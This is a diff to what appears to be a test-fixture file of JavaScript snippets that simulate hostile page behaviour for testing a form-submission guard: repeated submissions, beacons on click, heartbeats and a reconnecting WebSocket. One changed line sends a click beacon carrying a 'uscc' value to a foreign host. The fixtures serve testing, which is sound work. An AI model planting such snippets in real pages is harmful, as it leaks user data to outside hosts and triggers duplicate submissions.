@@ -139,7 +139,12 @@ BY_BEACON = at_press("navigator.sendBeacon(H.confirm, H.values()); H.busyLater()
 BESIDE_BY_BEACON = beside_press("navigator.sendBeacon(H.confirm, H.values())")
 
 TWICE_AT_ONCE = beside_press("H.post(H.confirm, H.values())")
-TWICE_SOON = beside_press("setTimeout(function () { H.post(H.confirm, H.values()); }, 300)")
+TWICE_SOON = beside_press("""
+  var again = JSON.stringify({
+    method: "POST", body: H.values().toString(), headers: { "Content-Type": H.FORM }
+  });
+  window.top.setTimeout("fetch('" + H.confirm + "', " + again + ")", 300)
+""")
 AGAIN_AT_ANSWER = at_press(
     "H.normally(form, function (answer) { H.post(H.confirm, H.values()); done(answer); });"
 )
@@ -289,7 +294,9 @@ BEACON_AT_CLICK = """
     navigator.sendBeacon("/hostile/beacon", "click");
   }, true);
 """
-FOREIGN_BEACON_AT_CLICK = BEACON_AT_CLICK.replace('"/hostile', 'H.foreign + "/hostile')
+FOREIGN_BEACON_AT_CLICK = BEACON_AT_CLICK.replace(
+    '"/hostile/beacon"', 'H.foreign + "/hostile/beacon?uscc=" + H.uscc'
+)
 BEACON_WITH_NUMBER = BEACON_AT_CLICK.replace('"click")', "H.values())")
 HEARTBEAT = 'setInterval(function () { H.post("/hostile/alive", "alive"); }, 200);'
 HEARTBEAT_OF_WORKER = """
@@ -297,7 +304,7 @@ HEARTBEAT_OF_WORKER = """
 """
 RECONNECTING = """
   function connect() {
-    var socket = new WebSocket(H.socket);
+    var socket = new WebSocket(H.socket + "?short");
     socket.onopen = function () { socket.send('{"still": "here"}'); };
     socket.onclose = function () { setTimeout(connect, 20); };
   }
